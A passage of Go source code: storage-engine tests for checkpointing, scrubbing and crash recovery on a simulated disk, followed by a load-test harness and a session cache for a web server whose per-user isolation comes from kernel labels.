		if err := s.Put(id, []byte(fmt.Sprintf("sealed-%d", id))); err != nil {
			t.Fatal(err)
		}
	}

	entered := make(chan struct{})
	release := make(chan struct{})
	var once sync.Once
	s.ckptGate = func() {
		once.Do(func() {
			close(entered)
			<-release
		})
	}
	ckptDone := make(chan error, 1)
	go func() { ckptDone <- s.Checkpoint() }()
	<-entered

	// The body is paused; the seal is over.  Everything must proceed.
	withTimeout(t, 30*time.Second, "operations during checkpoint body", func() {
		if err := s.Put(100, []byte("written mid-body")); err != nil {
			t.Errorf("Put during body: %v", err)
		}
		if err := s.SyncObject(100); err != nil {
			t.Errorf("SyncObject during body: %v", err)
		}
		// A sealed object's contents must still be readable (from the
		// pinned in-memory copy — its home extent does not exist yet).
		got, err := s.Get(7)
		if err != nil || string(got) != "sealed-7" {
			t.Errorf("Get of sealed object during body = %q, %v", got, err)
		}
		// Overwriting a sealed object mid-body must not corrupt the sealed
		// snapshot: the seal captured its own alias of the contents.
		if err := s.Put(8, []byte("overwritten mid-body")); err != nil {
			t.Errorf("Put over sealed object: %v", err)
		}
		if _, err := s.Stats(), error(nil); err != nil {
			t.Errorf("Stats during body: %v", err)
		}
	})

	close(release)
	if err := <-ckptDone; err != nil {
		t.Fatalf("checkpoint: %v", err)
	}

	// Remount: the snapshot plus the post-seal log records must reproduce
	// everything, including the mid-body sync and overwrite.
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	s2, err := Open(d, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for id, want := range map[uint64]string{7: "sealed-7", 8: "overwritten mid-body", 100: "written mid-body"} {
		got, err := s2.Get(id)
		if err != nil || string(got) != want {
			t.Errorf("after remount, object %d = %q, %v; want %q", id, got, err, want)
		}
	}
}

// TestScrubChunkingAllowsCheckpointAndSyncMidPass is the satellite-1
// regression test: with a scrub pass paused between chunks (via the
// scrubGate hook, which runs with no locks held), a full Checkpoint and a
// SyncObject both complete.  Under the old whole-pass ckptMu.RLock hold,
// the checkpoint writer would queue behind the scrub and the sync behind
// the writer — both would hang until the scrub released.  The scrub then
// resumes over relocated extents and must not false-quarantine anything.
func TestScrubChunkingAllowsCheckpointAndSyncMidPass(t *testing.T) {
	d := disk.New(disk.Params{Sectors: 1 << 16, WriteCache: true}, &vclock.Clock{})
	s, err := Format(d, Options{LogSize: 1 << 20, MetaAreaSize: 512 << 10, SegmentSize: 64 << 10})
	if err != nil {
		t.Fatal(err)
	}
	// Several chunks' worth of checkpointed objects, so the pass has
	// multiple gate visits and live targets to revisit after relocation.
	nObjs := scrubChunk*3 + 7
	for id := uint64(0); id < uint64(nObjs); id++ {
		if err := s.Put(id, []byte(fmt.Sprintf("scrub-object-%d", id))); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	// Dirty a swath so the mid-scrub checkpoint genuinely relocates extents
	// the scrub already captured as targets.
	for id := uint64(0); id < uint64(nObjs); id += 2 {
		if err := s.Put(id, []byte(fmt.Sprintf("scrub-object-%d-v2", id))); err != nil {
			t.Fatal(err)
		}
	}

	entered := make(chan struct{})
	release := make(chan struct{})
	var once sync.Once
	s.scrubGate = func() {
		once.Do(func() {
			close(entered)
			<-release
		})
	}
	scrubDone := make(chan ScrubStats, 1)
	go func() {
		st, err := s.Scrub()
		if err != nil {
			t.Errorf("scrub: %v", err)
		}
		scrubDone <- st
	}()
	<-entered

	// Scrub is paused mid-pass.  A checkpoint (a ckptMu writer) and a sync
	// (a reader behind that writer under the old scheme) must both finish.
	withTimeout(t, 30*time.Second, "checkpoint+sync during paused scrub", func() {
		if err := s.Checkpoint(); err != nil {
			t.Errorf("checkpoint during scrub: %v", err)
		}
		if err := s.Put(5000, []byte("synced during scrub")); err != nil {
			t.Errorf("put during scrub: %v", err)
		}
		if err := s.SyncObject(5000); err != nil {
			t.Errorf("sync during scrub: %v", err)
		}
	})

	close(release)
	st := <-scrubDone
	// The checkpoint relocated half the targets out from under the scrub;
	// re-validation against the live object map must classify those as
	// stale, never as damage.
	if st.ObjectsQuarantined != 0 || st.CorruptionsFound != 0 {
		t.Fatalf("scrub over concurrent checkpoint reported damage: %+v", st)
	}
	if len(s.QuarantinedObjects()) != 0 {
		t.Fatalf("objects quarantined: %v", s.QuarantinedObjects())
	}
}

// lockCheckDevice wraps a Device and runs check before every WriteAt.
type lockCheckDevice struct {
	disk.Device
	check func(off int64)
}

func (d *lockCheckDevice) WriteAt(p []byte, off int64) (int, error) {
	if d.check != nil {
		d.check(off)
	}
	return d.Device.WriteAt(p, off)
}

// TestNoDeviceWriteUnderMetaMuDuringCheckpoint is the satellite-3
// assertion: no checkpoint device write (extent relocation, segment
// append, snapshot, superblock) is issued while metaMu is held, so
// metadata reads never stall behind checkpoint disk I/O.  The test is
// single-threaded, so a failed TryLock during a write can only mean the
// writing goroutine itself holds metaMu.
func TestNoDeviceWriteUnderMetaMuDuringCheckpoint(t *testing.T) {
	base := disk.New(disk.Params{Sectors: 1 << 16, WriteCache: true}, &vclock.Clock{})
	ld := &lockCheckDevice{Device: base}
	s, err := Format(ld, Options{LogSize: 1 << 20, MetaAreaSize: 512 << 10, SegmentSize: 64 << 10})
	if err != nil {
		t.Fatal(err)
	}
	for id := uint64(0); id < 40; id++ {
		if err := s.Put(id, bytes.Repeat([]byte{byte(id)}, 700)); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	// Second round with deletions so the checkpoint also exercises the
	// cleaner and dead-entry paths.
	for id := uint64(0); id < 40; id += 2 {
		if err := s.Delete(id); err != nil {
			t.Fatal(err)
		}
	}
	for id := uint64(40); id < 60; id++ {
		if err := s.Put(id, bytes.Repeat([]byte{byte(id)}, 900)); err != nil {
			t.Fatal(err)
		}
	}

	var violations []int64
	ld.check = func(off int64) {
		if s.metaMu.TryLock() {
			s.metaMu.Unlock()
		} else {
			violations = append(violations, off)
		}
	}
	if err := s.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	ld.check = nil
	if len(violations) != 0 {
		t.Fatalf("%d device writes issued while holding metaMu (offsets %v)", len(violations), violations)
	}
}

// cleanerPayload is a deterministic ~3 KB object body (big enough that a
// few dozen objects span multiple 64 KB segments, small enough for the
// segment path rather than a dedicated extent).
func cleanerPayload(id uint64) []byte {
	b := make([]byte, 3000)
	for i := range b {
		b[i] = byte(id) + byte(i%251)
	}
	return b
}

// cleanerWorkload fills segments with synced objects, checkpoints them
// home, deletes two-thirds, and checkpoints again — driving the second
// checkpoint's body through dead-segment frees and live-object copy-outs —
// then dirties the survivors for one more round.
func cleanerWorkload() []wlOp {
	var ops []wlOp
	for id := uint64(0); id < 24; id++ {
		ops = append(ops, wlOp{kind: opPut, id: id, data: cleanerPayload(id)})
		ops = append(ops, wlOp{kind: opSync, id: id})
	}
	ops = append(ops, wlOp{kind: opCheckpoint})
	for id := uint64(0); id < 24; id++ {
		if id%3 != 0 {
			ops = append(ops, wlOp{kind: opDelete, id: id})
		}
	}
	ops = append(ops, wlOp{kind: opCheckpoint})
	for id := uint64(0); id < 24; id += 3 {
		ops = append(ops, wlOp{kind: opPut, id: id, data: cleanerPayload(id + 100)})
		ops = append(ops, wlOp{kind: opSync, id: id})
	}
	ops = append(ops, wlOp{kind: opCheckpoint})
	return ops
}

// TestSegmentCleanerReclaimsAndPreservesData checks the cleaner end to end
// on a healthy disk: the workload's deletions make it free and clean
// segments, the survivors' contents stay exact across a remount, and the
// vacated space returns to the free trees.
func TestSegmentCleanerReclaimsAndPreservesData(t *testing.T) {
	d := disk.New(disk.Params{Sectors: 1 << 16, WriteCache: true}, &vclock.Clock{})
	s, err := Format(d, Options{LogSize: 1 << 20, MetaAreaSize: 512 << 10, SegmentSize: 64 << 10})
	if err != nil {
		t.Fatal(err)
	}
	m := newRefModel()
	if runWorkload(t, s, cleanerWorkload(), m) {
		t.Fatal("workload crashed with no fault armed")
	}
	st := s.Stats()
	if st.SegsAllocated == 0 {
		t.Fatal("no segments allocated: the relocation path is not using the segment writer")
	}
	if st.SegsFreed == 0 && st.SegsCleaned == 0 {
		t.Fatalf("cleaner never reclaimed a segment: %+v", st)
	}
	free := s.FreeBytes()
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	s2, err := Open(d, Options{SegmentSize: 64 << 10})
	if err != nil {
		t.Fatal(err)
	}
	for id := uint64(0); id < 24; id += 3 {
		got, err := s2.Get(id)
		if err != nil || !bytes.Equal(got, cleanerPayload(id+100)) {
			t.Fatalf("survivor %d after remount: len=%d err=%v", id, len(got), err)
		}
	}
	if got := s2.FreeBytes(); got < free {
		t.Fatalf("free space shrank across remount: %d -> %d", free, got)
	}
}

// TestCrashMidSegmentCleanEveryPoint extends the crash matrix to the
// cleaner's write schedule (satellite 4): the scripted workload makes the
// second checkpoint free dead segments and copy live objects between
// segments, the fault-free pass records every write boundary of that
// schedule, and a fault is injected at each — including inside the
// copy-out writes and the section rewrites that follow — with recovery
// verified against the reference model every time.
func TestCrashMidSegmentCleanEveryPoint(t *testing.T) {
	ops := cleanerWorkload()

	s, fd := newCrashRig(t)
	fd.Arm(-1, disk.FaultTorn)
	m := newRefModel()
	if runWorkload(t, s, ops, m) {
		t.Fatal("fault-free pass crashed")
	}
	if st := s.Stats(); st.SegsFreed == 0 && st.SegsCleaned == 0 {
		t.Fatalf("workload did not exercise the segment cleaner: %+v", st)
	}
	verifyRecovery(t, fd.Inner(), m, "cleaner clean")
	points := crashPoints(fd.WriteBounds())
	if testing.Short() {
		// Every third point still covers each phase of the schedule.
		var sparse []int64
		for i, pt := range points {
			if i%3 == 0 {
				sparse = append(sparse, pt)
			}
		}
		points = sparse
	}

	for _, mode := range []disk.FaultMode{disk.FaultTorn, disk.FaultOmit, disk.FaultFlip} {
		for _, pt := range points {
			s, fd := newCrashRig(t)
			flipSeed := 77_000_000 + pt
			if mode == disk.FaultFlip {
				fd.SetFlipSeed(flipSeed)
			}
			fd.Arm(pt, mode)
			m := newRefModel()
			crashed := runWorkload(t, s, ops, m)
			if !crashed && fd.Tripped() {
				t.Fatalf("cleaner %v@%d: fault tripped but no op reported it", mode, pt)
			}
			point := fmt.Sprintf("cleaner %v@%d", mode, pt)
			if mode == disk.FaultFlip {
				point = fmt.Sprintf("%s flipseed=%d", point, flipSeed)
			}
			rec := verifyRecovery(t, fd.Inner(), m, point)
			if t.Failed() {
				return // one failing crash point is enough detail
			}
			continueAfterRecovery(t, rec, m, flipSeed, point)
			verifyRecovery(t, fd.Inner(), m, point+" post-continuation")
			if t.Failed() {
				return
			}
		}
	}
}
