package webd

import (
	"bytes"
	"fmt"
	"math/rand"
	"sort"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"histar/internal/auth"
	"histar/internal/kernel"
	"histar/internal/label"
	"histar/internal/netsim"
	"histar/internal/unixlib"
	"histar/internal/vclock"
)

// Load harness: boots a complete system, registers a population of users,
// and drives mixed hit/miss/cold-login web traffic at the server over a
// simulated Ethernet link, measuring throughput and latency.  This is the
// paper's Section 6.4 claim at scale — a web server whose per-user isolation
// comes from kernel labels — plus the numbers the session cache and
// ring-native gate calls are supposed to move.

// LoadConfig parameterizes a load run.
type LoadConfig struct {
	// Users is the registered population (default 64).
	Users int
	// Requests is the total request count across all clients (default 1000).
	Requests int
	// Concurrency is the number of closed-loop client goroutines
	// (default 8).
	Concurrency int
	// HotUsers is the size of the frequently requested subset (default
	// half the server's session capacity), HotFraction the probability a
	// request targets it (default 0.9).  The remaining requests spread
	// uniformly over all users, so a population larger than the session
	// cache continuously forces evictions and cold logins.
	HotUsers    int
	HotFraction float64
	// LogoutEvery makes roughly one in this many requests log the user out
	// first, exercising explicit invalidation under load (0 disables).
	LogoutEvery int
	// Prewarm serves one untimed request per hot user before measurement
	// starts, so the measured window is the cache's steady state rather than
	// its cold ramp.  Ignored for the baseline (it has no cache to warm).
	Prewarm bool
	// SandboxBytes gives every cold login a per-user sandbox of this many
	// read-only bytes.  With GoldenImage set the sandbox is cloned from a
	// pre-baked golden image (O(metadata), all bytes shared COW); otherwise
	// it is built from scratch — the baseline.  0 spawns no sandboxes.
	SandboxBytes int
	// GoldenImage bakes a golden image at boot and serves cold logins by
	// cloning it (requires SandboxBytes > 0).
	GoldenImage bool
	// Seed drives both the kernel and the traffic mix.
	Seed int64
	// LabelCacheEntries sizes the kernel's label comparison cache (0 =
	// default).
	LabelCacheEntries int
	// Server configures the web server under test; set
	// Server.DisableSessionCache for the per-request-login baseline.
	Server Config
}

func (c LoadConfig) withDefaults() LoadConfig {
	if c.Users <= 0 {
		c.Users = 64
	}
	if c.Requests <= 0 {
		c.Requests = 1000
	}
	if c.Concurrency <= 0 {
		c.Concurrency = 8
	}
	c.Server = c.Server.withDefaults()
	if c.HotUsers <= 0 {
		c.HotUsers = c.Server.MaxSessions / 2
	}
	if c.HotUsers > c.Users {
		c.HotUsers = c.Users
	}
	if c.HotFraction <= 0 || c.HotFraction > 1 {
		c.HotFraction = 0.9
	}
	if c.Seed == 0 {
		c.Seed = 1
	}
	return c
}

// LoadReport is a load run's measurements, shaped for JSON.
type LoadReport struct {
	Users       int  `json:"users"`
	Requests    int  `json:"requests"`
	Concurrency int  `json:"concurrency"`
	Lanes       int  `json:"lanes"`
	Baseline    bool `json:"baseline"`

	Prewarmed int `json:"prewarmed"`

	ElapsedSec float64 `json:"elapsed_sec"`
	RPS        float64 `json:"rps"`
	P50Micros  float64 `json:"p50_micros"`
	P99Micros  float64 `json:"p99_micros"`
	P999Micros float64 `json:"p999_micros"`
	Errors     uint64  `json:"errors"`

	Sessions SessionStats `json:"sessions"`
	HitRate  float64      `json:"hit_rate"`

	// Sandbox spawn accounting for the cold-user blend: how cold logins got
	// their sandboxes and what the golden-image fast-path shared vs copied.
	SandboxBytes    int    `json:"sandbox_bytes"`
	Golden          bool   `json:"golden"`
	GoldenSpawns    uint64 `json:"golden_spawns"`
	ScratchSpawns   uint64 `json:"scratch_spawns"`
	SnapSharedBytes uint64 `json:"snap_shared_bytes"`
	SnapCopiedBytes uint64 `json:"snap_copied_bytes"`
	SnapCowBreaks   uint64 `json:"snap_cow_breaks"`

	RingWaits        uint64 `json:"ring_waits"`
	RingGateCalls    uint64 `json:"ring_gate_calls"`
	RingEntries      uint64 `json:"ring_entries"`
	LabelCacheHits   uint64 `json:"label_cache_hits"`
	LabelCacheMisses uint64 `json:"label_cache_misses"`
	LabelCacheEvicts uint64 `json:"label_cache_evictions"`
	InternCount      int    `json:"intern_count"`
	InternEvictions  uint64 `json:"intern_evictions"`

	WireBytes     uint64  `json:"wire_bytes"`
	SimWireMillis float64 `json:"sim_wire_millis"`
}

// loadUser returns the i'th synthetic account name and password.
func loadUser(i int) (name, password string) {
	return "u" + strconv.Itoa(i), "pw-" + strconv.Itoa(i)
}

// RunLoad boots a fresh system, registers cfg.Users accounts, and drives
// cfg.Requests requests at the server from cfg.Concurrency closed-loop
// clients over a simulated Ethernet link.
func RunLoad(cfg LoadConfig) (*LoadReport, error) {
	cfg = cfg.withDefaults()
	sys, err := unixlib.Boot(unixlib.BootOptions{KernelConfig: kernel.Config{
		Seed:              uint64(cfg.Seed),
		LabelCacheEntries: cfg.LabelCacheEntries,
	}})
	if err != nil {
		return nil, err
	}
	authSvc := auth.New(sys)
	for i := 0; i < cfg.Users; i++ {
		name, pw := loadUser(i)
		if _, err := authSvc.Register(name, pw); err != nil {
			return nil, fmt.Errorf("register %s: %w", name, err)
		}
	}
	if cfg.SandboxBytes > 0 {
		if cfg.GoldenImage {
			// Bake once with a template account's categories; every cold
			// login clones it with the categories remapped to the real user.
			tmpl, err := sys.AddUser("goldentmpl")
			if err != nil {
				return nil, fmt.Errorf("golden template user: %w", err)
			}
			img, err := sys.BakeGoldenData("webd-sandbox", tmpl, cfg.SandboxBytes)
			if err != nil {
				return nil, fmt.Errorf("baking golden image: %w", err)
			}
			cfg.Server.Golden = img
		} else {
			cfg.Server.SandboxBytes = cfg.SandboxBytes
		}
	}
	srv := NewWithConfig(sys, authSvc, ProfileApp, cfg.Server)
	defer srv.Close()

	// The wire: clients sit on side A, the server endpoint on side B.  The
	// link delivers synchronously in the sender's goroutine, so a client's
	// SendAtoB runs the whole request and the response lands in its reply
	// channel before SendAtoB returns; the link still accounts every byte
	// and its simulated transfer time.
	clock := &vclock.Clock{}
	link := netsim.NewLink(netsim.PaperEthernet(), clock)
	var replies sync.Map // request id -> chan []byte
	link.Attach(
		netsim.EndpointFunc(func(frame []byte) {
			id, payload := splitLoadFrame(frame)
			if ch, ok := replies.Load(id); ok {
				ch.(chan []byte) <- payload
			}
		}),
		netsim.EndpointFunc(func(frame []byte) {
			id, payload := splitLoadFrame(frame)
			parts := bytes.SplitN(payload, []byte{' '}, 3)
			if len(parts) != 3 {
				link.SendBtoA(joinLoadFrame(id, []byte("ERR malformed request")))
				return
			}
			resp, err := srv.Serve(Request{
				User:     string(parts[0]),
				Password: string(parts[1]),
				Path:     string(parts[2]),
			})
			if err != nil {
				resp = "ERR " + err.Error()
			}
			link.SendBtoA(joinLoadFrame(id, []byte(resp)))
		}),
	)

	prewarmed := 0
	if cfg.Prewarm && !cfg.Server.DisableSessionCache {
		for i := 0; i < cfg.HotUsers; i++ {
			name, pw := loadUser(i)
			if _, err := srv.Serve(Request{User: name, Password: pw, Path: "/profile/set/v" + strconv.Itoa(i)}); err != nil {
				return nil, fmt.Errorf("prewarm %s: %w", name, err)
			}
			prewarmed++
		}
	}

	sys.Kern.ResetRingStats()
	lc0 := sys.Kern.LabelCacheStats()
	in0 := label.InternStatsSnapshot()
	ss0 := srv.SessionStats()

	var (
		nextReq   atomic.Int64
		nextID    atomic.Uint64
		errCount  atomic.Uint64
		latencies = make([][]time.Duration, cfg.Concurrency)
		wg        sync.WaitGroup
	)
	start := time.Now()
	for g := 0; g < cfg.Concurrency; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			rng := rand.New(rand.NewSource(cfg.Seed + int64(g)*7919))
			lats := make([]time.Duration, 0, cfg.Requests/cfg.Concurrency+1)
			for nextReq.Add(1) <= int64(cfg.Requests) {
				var idx int
				if rng.Float64() < cfg.HotFraction {
					idx = rng.Intn(cfg.HotUsers)
				} else {
					idx = rng.Intn(cfg.Users)
				}
				user, pw := loadUser(idx)
				if cfg.LogoutEvery > 0 && rng.Intn(cfg.LogoutEvery) == 0 {
					srv.Logout(user)
				}
				id := nextID.Add(1)
				ch := make(chan []byte, 1)
				replies.Store(id, ch)
				req := []byte(user + " " + pw + " /profile/set/v" + strconv.Itoa(idx))
				t0 := time.Now()
				link.SendAtoB(joinLoadFrame(id, req))
				resp := <-ch
				lats = append(lats, time.Since(t0))
				replies.Delete(id)
				if bytes.HasPrefix(resp, []byte("ERR")) {
					errCount.Add(1)
				}
			}
			latencies[g] = lats
		}(g)
	}
	wg.Wait()
	elapsed := time.Since(start)

	var all []time.Duration
	for _, l := range latencies {
		all = append(all, l...)
	}
	sort.Slice(all, func(i, j int) bool { return all[i] < all[j] })
	pct := func(p float64) float64 {
		if len(all) == 0 {
			return 0
		}
		i := int(p * float64(len(all)-1))
		return float64(all[i]) / float64(time.Microsecond)
	}

	// Session counters over the measured window only (the prewarm ramp's
	// misses are the cache filling, not steady-state behavior).
	st := srv.SessionStats()
	st.Hits -= ss0.Hits
	st.Misses -= ss0.Misses
	st.ColdLogins -= ss0.ColdLogins
	st.BadPasswords -= ss0.BadPasswords
	st.Evictions -= ss0.Evictions
	st.IdleEvictions -= ss0.IdleEvictions
	st.Logouts -= ss0.Logouts
	st.GoldenSpawns -= ss0.GoldenSpawns
	st.ScratchSpawns -= ss0.ScratchSpawns
	hitRate := 0.0
	if st.Hits+st.Misses > 0 {
		hitRate = float64(st.Hits) / float64(st.Hits+st.Misses)
	}
	ring := sys.Kern.RingStats()
	snap := sys.Kern.SnapshotStats()
	lc := sys.Kern.LabelCacheStats()
	in := label.InternStatsSnapshot()
	bytesAB, bytesBA, _, _ := link.Stats()

	return &LoadReport{
		Users:       cfg.Users,
		Requests:    cfg.Requests,
		Concurrency: cfg.Concurrency,
		Lanes:       cfg.Server.Lanes,
		Baseline:    cfg.Server.DisableSessionCache,
		Prewarmed:   prewarmed,

		ElapsedSec: elapsed.Seconds(),
		RPS:        float64(cfg.Requests) / elapsed.Seconds(),
		P50Micros:  pct(0.50),
		P99Micros:  pct(0.99),
		P999Micros: pct(0.999),
		Errors:     errCount.Load(),

		Sessions: st,
		HitRate:  hitRate,

		SandboxBytes:    cfg.SandboxBytes,
		Golden:          cfg.GoldenImage,
		GoldenSpawns:    st.GoldenSpawns,
		ScratchSpawns:   st.ScratchSpawns,
		SnapSharedBytes: snap.SharedBytes,
		SnapCopiedBytes: snap.CopiedBytes,
		SnapCowBreaks:   snap.CowBreaks,

		RingWaits:        ring.Waits,
		RingGateCalls:    ring.GateCalls,
		RingEntries:      ring.Entries,
		LabelCacheHits:   lc.Hits - lc0.Hits,
		LabelCacheMisses: lc.Misses - lc0.Misses,
		LabelCacheEvicts: lc.Evictions - lc0.Evictions,
		InternCount:      in.Count,
		InternEvictions:  in.Evictions - in0.Evictions,

		WireBytes:     bytesAB + bytesBA,
		SimWireMillis: float64(clock.Now()) / float64(time.Millisecond),
	}, nil
}

// Load frames are [8-byte decimal request id][space][payload]; a fixed-width
// id keeps parsing trivial on both ends of the link.
func joinLoadFrame(id uint64, payload []byte) []byte {
	return append([]byte(fmt.Sprintf("%08d ", id)), payload...)
}

func splitLoadFrame(frame []byte) (uint64, []byte) {
	if len(frame) < 9 {
		return 0, nil
	}
	id, err := strconv.ParseUint(string(frame[:8]), 10, 64)
	if err != nil {
		return 0, nil
	}
	return id, frame[9:]
}
