package webd

import (
	"container/list"
	"encoding/binary"
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"histar/internal/kernel"
	"histar/internal/label"
	"histar/internal/unixlib"
)

// A session is one authenticated per-user worker kept warm across requests.
// Cold creation runs the full auth gate protocol (package auth) once; after
// that, requests reach the worker through its serve gate and the only
// per-request authentication work is re-checking the presented credential.
//
// Locking: a client goroutine holds mu from acquire until its request's
// completion arrives from the lane, so at most one request per session is in
// flight and lane goroutines never lock sessions.  lastUsed is atomic so the
// cache can sweep for idleness without touching mu.  elem is guarded by the
// cache lock, dead by mu.
type session struct {
	user   string
	worker *unixlib.Process
	// gate is the worker's serve gate: label {ur⋆, uw⋆, 1}, clearance {2}.
	// Entering it is what hands the demultiplexer lane the user's categories
	// for the duration of one request.
	gate kernel.CEnt
	// reply is the response segment, labeled {ur3, uw0, 1}: tainted with the
	// user's secrecy, so only a thread holding ur (i.e. a lane that came
	// through the gate) can read the response out of it.
	reply kernel.CEnt
	// reqLabel is the interned label a lane requests on gate entry: the
	// lane's own base label plus ur⋆/uw⋆.  Precomputed once so steady-state
	// gate calls do no label construction.
	reqLabel label.Label
	// sandbox is the root of the user's per-session sandbox (golden-image
	// clone or scratch build), linked in the worker's process container so
	// teardown reclaims it with the worker.  NilID when no sandbox is
	// configured.
	sandbox kernel.ID

	// ready is closed once cold creation finishes; initErr records its
	// outcome.  Concurrent clients for the same user wait on ready instead of
	// each running a cold login (single-flight).
	ready   chan struct{}
	initErr error

	mu   sync.Mutex
	dead bool

	lastUsed atomic.Int64 // unix nanoseconds
	elem     *list.Element
}

// SessionStats counts session-cache activity.
type SessionStats struct {
	// Hits are acquisitions that found a live session; Misses triggered a
	// cold login.  ColdLogins counts full auth protocol runs (misses that got
	// as far as Login, successful or not).
	Hits, Misses, ColdLogins uint64
	// BadPasswords counts rejected credentials (hit or cold path).
	BadPasswords uint64
	// Evictions counts capacity evictions, IdleEvictions idle-timeout ones,
	// Logouts explicit invalidations.
	Evictions, IdleEvictions, Logouts uint64
	// GoldenSpawns counts cold logins whose sandbox came from a golden-image
	// clone; ScratchSpawns counts sandboxes built from scratch (the
	// baseline).
	GoldenSpawns, ScratchSpawns uint64
	// Live is the current number of cached sessions.
	Live int
}

// sessionCache is the bounded LRU of live sessions, keyed by user.
type sessionCache struct {
	srv  *Server
	max  int
	idle time.Duration

	mu  sync.Mutex
	m   map[string]*session
	lru *list.List // front = most recently used

	hits, misses, coldLogins, badPasswords atomic.Uint64
	evictions, idleEvictions, logouts      atomic.Uint64
	goldenSpawns, scratchSpawns            atomic.Uint64
}

func newSessionCache(srv *Server, max int, idle time.Duration) *sessionCache {
	return &sessionCache{srv: srv, max: max, idle: idle, m: make(map[string]*session), lru: list.New()}
}

// acquire returns the user's session with sess.mu held, authenticating the
// presented password on the way: a full Login on a cold miss, a verifier
// check on a hit.  The caller must release() the session when its request
// completes.
func (c *sessionCache) acquire(user, password string) (*session, error) {
	for {
		now := time.Now()
		c.mu.Lock()
		for _, v := range c.sweepLocked(now) {
			c.mu.Unlock()
			c.teardown(v)
			c.mu.Lock()
		}
		if sess, ok := c.m[user]; ok {
			c.lru.MoveToFront(sess.elem)
			c.mu.Unlock()
			<-sess.ready
			if sess.initErr != nil {
				// The creator's cold login failed; drop the placeholder and
				// retry with our own credential.
				c.remove(sess)
				continue
			}
			c.hits.Add(1)
			// A hit still authenticates: the cached worker proves a past
			// login, not this request's credential.
			if err := c.srv.auth.Verify(user, password); err != nil {
				c.badPasswords.Add(1)
				return nil, fmt.Errorf("%w: %v", ErrUnauthorized, err)
			}
			sess.mu.Lock()
			if sess.dead {
				sess.mu.Unlock()
				continue
			}
			return sess, nil
		}
		// Miss: insert a placeholder (so concurrent requests for this user
		// wait instead of racing cold logins), evict past capacity, then run
		// the cold path outside the cache lock.
		c.misses.Add(1)
		sess := &session{user: user, ready: make(chan struct{})}
		sess.lastUsed.Store(now.UnixNano())
		sess.elem = c.lru.PushFront(sess)
		c.m[user] = sess
		var victims []*session
		for c.lru.Len() > c.max {
			v := c.lru.Back().Value.(*session)
			c.detachLocked(v)
			c.evictions.Add(1)
			victims = append(victims, v)
		}
		c.mu.Unlock()
		for _, v := range victims {
			c.teardown(v)
		}
		err := c.establish(sess, password)
		if err != nil {
			sess.initErr = err
			close(sess.ready)
			c.remove(sess)
			return nil, err
		}
		close(sess.ready)
		sess.mu.Lock()
		if sess.dead {
			// Evicted before first use (capacity churn); retry.
			sess.mu.Unlock()
			continue
		}
		return sess, nil
	}
}

// release marks the session recently used and releases it to other clients.
func (c *sessionCache) release(sess *session) {
	sess.lastUsed.Store(time.Now().UnixNano())
	sess.mu.Unlock()
}

// establish runs the cold path: a fresh unprivileged worker, a full gate
// login, then the session's serve gate and reply segment, all created with
// the worker's own (now user-held) privileges.
func (c *sessionCache) establish(sess *session, password string) error {
	worker, err := c.srv.sys.NewInitProcess("")
	if err != nil {
		return err
	}
	c.coldLogins.Add(1)
	if err := c.srv.auth.Login(worker, sess.user, password); err != nil {
		worker.ExitQuietly()
		c.badPasswords.Add(1)
		return fmt.Errorf("%w: %v", ErrUnauthorized, err)
	}
	tc, u := worker.TC, worker.User
	srv := c.srv
	// Per-user sandbox: cloned from the golden image in O(metadata) (all
	// read-only data — programs, dirsegs, scanner DB — shared COW until
	// first write), or built from scratch as the baseline.  Either way it
	// lives in the worker's process container, so worker exit reclaims it.
	if g := srv.cfg.Golden; g != nil {
		res, err := srv.sys.SpawnFromGolden(tc, g, worker.ProcCt, u)
		if err != nil {
			worker.ExitQuietly()
			return err
		}
		sess.sandbox = res.Root
		c.goldenSpawns.Add(1)
	} else if n := srv.cfg.SandboxBytes; n > 0 {
		sb, err := srv.sys.BuildSandboxScratch(tc, worker.ProcCt, u, n)
		if err != nil {
			worker.ExitQuietly()
			return err
		}
		sess.sandbox = sb
		c.scratchSpawns.Add(1)
	}
	// Reply segment {ur3, uw0, 1}: response bytes are tainted with the
	// user's secrecy the moment they are written, so even a demultiplexer
	// bug cannot hand them to a lane that has not entered this user's gate.
	replyLbl := label.New(label.L1, label.P(u.Ur, label.L3), label.P(u.Uw, label.L0))
	rid, err := tc.SegmentCreate(worker.ProcCt, replyLbl, "webd reply "+sess.user, replySegSize)
	if err != nil {
		worker.ExitQuietly()
		return err
	}
	reply := kernel.CEnt{Container: worker.ProcCt, Object: rid}
	gateLbl := label.New(label.L1, label.P(u.Ur, label.Star), label.P(u.Uw, label.Star))
	gid, err := tc.GateCreate(worker.ProcCt, kernel.GateSpec{
		Label:     gateLbl,
		Clearance: label.New(label.L2),
		Descrip:   "webd serve " + sess.user,
		Entry: func(call *kernel.GateCallCtx) []byte {
			// Runs on the lane thread, which now holds ur⋆/uw⋆.  The
			// application itself uses the worker process (its files, its
			// privileges); only the reply write needs the entering thread.
			body, herr := srv.app(worker, sess.user, string(call.Args))
			if werr := call.TC.SegmentWrite(reply, 0, encodeReply(body, herr)); werr != nil {
				return []byte("ERR reply write: " + werr.Error())
			}
			return nil
		},
	})
	if err != nil {
		worker.ExitQuietly()
		return err
	}
	sess.worker = worker
	sess.gate = kernel.CEnt{Container: worker.ProcCt, Object: gid}
	sess.reply = reply
	sess.reqLabel = label.Intern(srv.laneBase.With(u.Ur, label.Star).With(u.Uw, label.Star))
	return nil
}

// sweepLocked detaches sessions idle past the timeout and returns them for
// teardown (which must happen without the cache lock).  Called with c.mu.
func (c *sessionCache) sweepLocked(now time.Time) []*session {
	if c.idle <= 0 {
		return nil
	}
	cutoff := now.Add(-c.idle).UnixNano()
	var victims []*session
	for e := c.lru.Back(); e != nil; {
		v := e.Value.(*session)
		if v.lastUsed.Load() >= cutoff {
			break
		}
		e = e.Prev()
		c.detachLocked(v)
		c.idleEvictions.Add(1)
		victims = append(victims, v)
	}
	return victims
}

// detachLocked unlinks a session from the map and LRU list.  Called with
// c.mu; teardown happens later, without it.
func (c *sessionCache) detachLocked(v *session) {
	delete(c.m, v.user)
	c.lru.Remove(v.elem)
}

